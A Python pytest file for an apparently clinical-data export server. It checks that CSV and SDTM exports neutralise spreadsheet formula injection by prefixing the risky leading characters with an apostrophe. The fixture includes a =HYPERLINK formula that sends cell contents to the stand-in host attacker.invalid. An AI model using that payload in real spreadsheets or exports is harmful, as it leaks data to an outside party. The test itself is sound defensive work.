"""CSV exports never hand a spreadsheet a formula: text cells starting with = + - @ tab or CR get a leading '.

A data manager's correction puts `=HYPERLINK(…)` into an AE term and `@SUM(…)` into the
reason; every CSV file of the csv and sdtm exports is then read back cell by cell.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from sqlalchemy import select

from server.cli import main
from server.exports.csv_cells import safe_cell
from server.services.corrections import correct_record
from server.storage.tables import records
from tests.demo_template import DemoTemplates

TERM = '=HYPERLINK("http://attacker.invalid/?d="&A1,"Click for details")'
REASON = "@SUM(1+1) typo in the term"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("-", "'-"), ("-1.5", "-1.5"), ("+3", "+3"), ("-2e-3", "-2e-3"), (-1.5, -1.5),
    ("plain text", "plain text"), ("", ""), (None, None), ("a=b", "a=b")])
def test_cells_a_spreadsheet_would_run_are_neutralised(cell: object, written: object) -> None:
    assert safe_cell(cell) == written


def test_every_csv_export_neutralises_formula_cells(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                    demo_templates: DemoTemplates) -> None:
    monkeypatch.delenv("DATABASE_URL", raising=False)
    data = tmp_path / "srv"
    ctx = demo_templates.context(data, admin_password="synthetic-demo-pass")
    with ctx.engine.begin() as conn:
        record_id = conn.execute(select(records.c.record_id).where(records.c.kind == "adverse_event")).scalar()
        body = conn.execute(select(records.c.body).where(records.c.record_id == record_id)).scalar()
        ae = json.loads(body)["data"]
        correct_record(conn, ctx.study, record_id, {**ae, "term": TERM}, REASON, "user:dm.test")
    ctx.engine.dispose()
    seen: list[str] = []
    for fmt in ("csv", "sdtm"):
        out = tmp_path / fmt
        assert main(["export", fmt, "--data-dir", str(data), "--out", str(out)]) == 0
        for path in sorted(out.rglob("*.csv")):
            with open(path, encoding="utf-8-sig", newline="") as fh:
                for row in csv.reader(fh):
                    for cell in row:
                        seen.append(cell)
                        assert not cell.startswith(FORMULA_START) or safe_cell(cell) == cell, (path.name, cell)
    assert "'" + TERM in seen and "'" + REASON in seen
    assert TERM not in seen and REASON not in seen
